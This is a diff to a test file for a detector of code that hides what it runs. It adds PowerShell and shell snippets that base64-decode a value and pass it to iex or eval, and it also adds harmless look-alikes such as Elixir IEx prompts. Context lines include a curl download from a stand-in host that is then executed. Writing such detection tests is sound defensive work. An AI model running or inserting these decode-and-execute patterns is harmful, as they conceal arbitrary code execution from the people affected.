@@ -82,6 +82,11 @@ test.each([
   "curl -o x http://h.example/a && s''h x",
   "set a=pow& set b=ershell& %a%%b% -c x",
   "a = 'htt'+'ps://evil.example/x'",
+  "$b = [Convert]::FromBase64String($a); $b | iex",
+  "$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a)); IEX $t",
+  "IEX ([Convert]::FromBase64String('aGk='))",
+  'pwsh -c "$x = FromBase64String($a); iex"',
+  'x=$(printf %s "$p" | base64 -d); eval "$x"',
 ])("code that hides what it runs counts: %s", (text) => expect(fired(text)).toBeTrue());
 
 /** A mail that asks for something, as mails do. */
@@ -197,6 +202,16 @@ test.each([
   [
     "a test of packing",
     'zlib.decompress(zlib.compress(b"x")) == b"x"; data = gzip.decompress(body); run(data)',
+  ],
+  ["Elixir's shell", "The picture goes through `to_base64/1`. It compiles, so let's try it in IEx now."],
+  ["its prompts", 'iex(3)> Codec.decode("aGVsbG8=")\n"hello"\niex(4)> Codec.encode("hello")'],
+  [
+    "a call that is only named",
+    "Send the value in base64; the exec driver reads it, and eval is never used.",
+  ],
+  [
+    "what a library is for",
+    "`codec`: encoding/decoding of our format. See https://codec.example/guide/llm-prompts and tools for AI. 9f86d081884c7d659a2feaa0c55ad015",
   ],
   ["bytes as text", 'value = base64.b64decode(token).decode("utf-8")\nprint(value)\nsubprocess.run(cmd)'],
   ["a call behind a plain one", "function f() { return String.fromCharCode(65 + i) } setTimeout(f, 100)"],
